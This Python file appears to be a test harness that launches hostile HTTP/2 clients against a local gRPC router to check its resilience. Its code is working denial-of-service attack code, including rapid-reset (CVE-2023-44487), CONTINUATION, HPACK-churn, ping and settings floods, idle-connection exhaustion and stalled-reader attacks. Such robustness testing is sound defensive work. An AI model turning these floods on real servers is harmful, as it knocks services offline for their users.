"""Hostile clients, each in a process of its own: see attackers.py.

    attack.py KIND PORT [--source ADDRESS] [--subject SUBJECT] [--tls]

It says "begun" on standard output as soon as it is at work, and goes on until its standard input
ends. A flood connects again whenever the router has closed its connection. At the end there is a
line of JSON: how many connections it made, how many of them the router closed or refused, and how
many bytes it got rid of.
"""

import argparse
import contextlib
import itertools
import json
import os
import resource
import select
import socket
import ssl
import sys
import threading

import http2

PUBLISH = "/router.v1.PublisherService/Publish"
BATCH = "/router.v1.PublisherService/PublishBatch"
STREAM = "/router.v1.PublisherService/PublishStream"
UNKNOWN = "/no.such.Service/Method"
# One piece is this many frames or so.
PIECE = 2000


def resets(path):
    """Calls that are begun and cancelled at once (CVE-2023-44487)."""
    for first in itertools.count(1, 2 * PIECE):
        yield b"".join(http2.call(path, stream) + http2.reset(stream)
                       for stream in range(first, first + 2 * PIECE, 2))


def pings():
    piece = b"".join(http2.ping(n) for n in range(PIECE))
    while True:
        yield piece


def settings_changes():
    piece = http2.settings((3, 100)) * PIECE
    while True:
        yield piece


def continuations():
    """A header block that never ends."""
    yield http2.frame(http2.HEADERS, 0, 1, http2.call_headers(PUBLISH))
    field = http2.literal("x-" + "a" * 30, "b" * 60)
    piece = http2.frame(http2.CONTINUATION, 0, 1, field * 160)
    while True:
        yield piece


def empty_continuations():
    yield http2.frame(http2.HEADERS, 0, 1, http2.call_headers(PUBLISH))
    piece = http2.frame(http2.CONTINUATION, 0, 1) * PIECE
    while True:
        yield piece


def hpack():
    """Header blocks of many tiny fields, each of which goes into the table and puts others out of
    it (CVE-2023-33953)."""
    block = http2.call_headers(PUBLISH) + b"".join(
        http2.literal("a%d" % (n % 100), "", index=True) for n in range(2500))
    for first in itertools.count(1, 40):
        yield b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream,
                                   block) for stream in range(first, first + 40, 2))


def headers_too_large():
    """Calls whose metadata is far over the limit."""
    block = http2.call_headers(PUBLISH) + http2.literal("x-a", "b" * 200) * 75
    for first in itertools.count(1, 40):
        yield b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream,
                                   block) for stream in range(first, first + 40, 2))


def window_updates():
    piece = http2.frame(http2.WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * PIECE
    while True:
        yield piece


def priorities():
    piece = b"".join(http2.frame(http2.PRIORITY, 0, stream, b"\0\0\0\0\x10")
                     for stream in range(1, 2 * PIECE, 2))
    while True:
        yield piece


FLOODS = {
    "reset_unary": lambda: resets(PUBLISH),
    "reset_stream": lambda: resets(STREAM),
    "reset_unknown": lambda: resets(UNKNOWN),
    "ping": pings,
    "settings": settings_changes,
    "continuation": continuations,
    "empty_continuation": empty_continuations,
    "hpack": hpack,
    "headers_too_large": headers_too_large,
    "window_update": window_updates,
    "priority": priorities,
}


class Flood:
    """Sends pieces as fast as they are taken, over one connection after the other: the same ones
    over each, made once, so that the attacker takes little of the CPU. `tls`: None for none."""

    def __init__(self, pieces, address, source, tls, stop):
        self.made = []
        self.to_be_made = pieces
        self.address = address
        self.source = source
        self.tls = tls
        self.stop = stop
        self.connections = 0
        self.closed = 0
        self.bytes = 0

    def run(self):
        print("begun", flush=True)
        while not self.stop.is_set():
            try:
                with self._connect() as connection:
                    self.connections += 1
                    self._send(connection)
            except OSError:
                self.closed += 1
                self.stop.wait(0.001)

    def _connect(self):
        connection = socket.create_connection(self.address, 1, self.source)
        return connection if self.tls is None else self.tls.wrap_socket(connection)

    def _send(self, connection):
        connection.setblocking(False)
        rest = memoryview(http2.hello())
        pieces = self._pieces()
        while not self.stop.is_set():
            readable, writable, _ = select.select([connection], [connection], [], 0.1)
            with contextlib.suppress(ssl.SSLWantReadError):
                # What the router says is thrown away.
                if readable and not connection.recv(1 << 20):
                    self.closed += 1
                    return
            with contextlib.suppress(ssl.SSLWantWriteError):
                if writable:
                    rest = rest or memoryview(next(pieces))
                    sent = connection.send(rest)
                    self.bytes += sent
                    rest = rest[sent:]

    def _pieces(self):
        for number in itertools.count():
            if number == len(self.made):
                self.made.append(next(self.to_be_made))
            yield self.made[number]


def idle(address, source, stop):
    """1,000 connections that say hello and then nothing."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    connections = []
    for _ in range(1000):
        connection = socket.create_connection(address, 10, source)
        connection.sendall(http2.hello())
        connections.append(connection)
    for connection in connections:
        assert connection.recv(1 << 16), "the router has closed an idle connection"
    print("begun", flush=True)
    stop.wait()
    return connections


def stalled_reader(address, source, subject, stop):
    """A stream that publishes as fast as it may, and takes no answer: its window is closed. At work
    when the router does not read it any more."""
    message = http2.field(1, subject.encode()) + http2.field(2, b"x" * 256)
    messages = http2.field(1, message) * 50
    data = http2.frame(http2.DATA, 0, 1, b"\0" + len(messages).to_bytes(4, "big") + messages)
    assert len(messages) + 5 <= 16384, "the most in one frame of HTTP/2"
    with socket.create_connection(address, 10, source) as connection:
        connection.sendall(http2.PREFACE + http2.settings((http2.INITIAL_WINDOW_SIZE, 0))
                           + http2.call(STREAM, 1))
        frames, rooms = http2.FrameReader(connection), http2.Rooms(65535)
        rooms.open(1, 1 << 62)
        stalled_for, has_begun = 0, False
        while not stop.is_set():
            # One frame at a time, whole; what a frame may not have is left.
            if rooms.has(1, len(messages) + 5):
                stalled_for = 0
                rooms.take(1, len(messages) + 5)
                connection.sendall(data)
                continue
            stalled_for += 1
            if stalled_for == 5 and not has_begun:
                has_begun = True
                print("begun", flush=True)
            readable, _, _ = select.select([connection], [], [], 0.1)
            if readable:
                connection.sendall(rooms.obey(frames.read()))


def calls_not_read(address, source, path, message, withheld, calls, stop):
    """Calls with one message each, without the last bytes where some are withheld, whose answers
    are not taken."""
    body = b"\0" + len(message).to_bytes(4, "big") + message
    body = body[:len(body) - withheld]
    ends_stream = not withheld and path != STREAM
    with socket.create_connection(address, 10, source) as connection:
        connection.sendall(http2.PREFACE + http2.settings((http2.INITIAL_WINDOW_SIZE, 0)))
        frames, rooms = http2.FrameReader(connection), http2.Rooms(65535)
        sent = {stream: 0 for stream in range(1, 2 * calls, 2)}
        for stream in sent:
            connection.sendall(http2.call(path, stream))
            rooms.open(stream, len(body))
        print("begun", flush=True)
        connection.setblocking(False)
        rest = b""
        while not stop.is_set():
            for stream, count in rooms.share(16384) if not rest else ():
                data = body[sent[stream]:sent[stream] + count]
                sent[stream] += count
                is_last = ends_stream and sent[stream] == len(body)
                rest += http2.frame(http2.DATA, http2.END_STREAM if is_last else 0, stream, data)
            readable, writable, _ = select.select([connection], [connection] if rest else [], [],
                                                  0.1)
            if writable:
                rest = rest[connection.send(rest):]
            if readable:
                rest += rooms.obey(frames.read())


NO_MESSAGE = http2.field(1, b"")
HELD_MESSAGE = http2.field(1, http2.field(1, b"test.held") + http2.field(2, b"x" * 100))
# Path, message, how many bytes of it are withheld, and how many calls.
CALLS_NOT_READ = {
    # Messages that are nearly as large as they may be, and never complete.
    "incomplete_messages": (PUBLISH, b"x" * 15_900_000, 5, 400),
    # As many messages as there are in a large batch without anything in them.
    "empty_messages": (BATCH, NO_MESSAGE * 4_000_000, 0, 10),
    # Each message has an error for an answer.
    "unread_answers": (BATCH, NO_MESSAGE * 10_000, 0, 200),
    # A frame of each of many streams.
    "held_frames": (STREAM, HELD_MESSAGE * 10_000, 0, 100),
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=[*FLOODS, *CALLS_NOT_READ, "idle", "stalled_reader"])
    parser.add_argument("port", type=int)
    parser.add_argument("--source", default="127.0.0.1")
    parser.add_argument("--subject", default="test.stalled")
    parser.add_argument("--tls", action="store_true")
    options = parser.parse_args()
    # A real one has a machine of its own: what it computes is not to take the good client's cores.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    stop = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
    address, source = ("127.0.0.1", options.port), (options.source, 0)
    if options.kind == "idle":
        idle(address, source, stop)
    elif options.kind == "stalled_reader":
        stalled_reader(address, source, options.subject, stop)
    elif options.kind in CALLS_NOT_READ:
        with contextlib.suppress(OSError):  # That the router ends it is as good.
            calls_not_read(address, source, *CALLS_NOT_READ[options.kind], stop)
    else:
        tls = None
        if options.tls:
            tls = ssl._create_unverified_context()
            tls.set_alpn_protocols(["h2"])
        flood = Flood(FLOODS[options.kind](), address, source, tls, stop)
        flood.run()
        print(json.dumps({"connections": flood.connections, "closed": flood.closed,
                          "bytes": flood.bytes}))


if __name__ == "__main__":
    sys.exit(main())
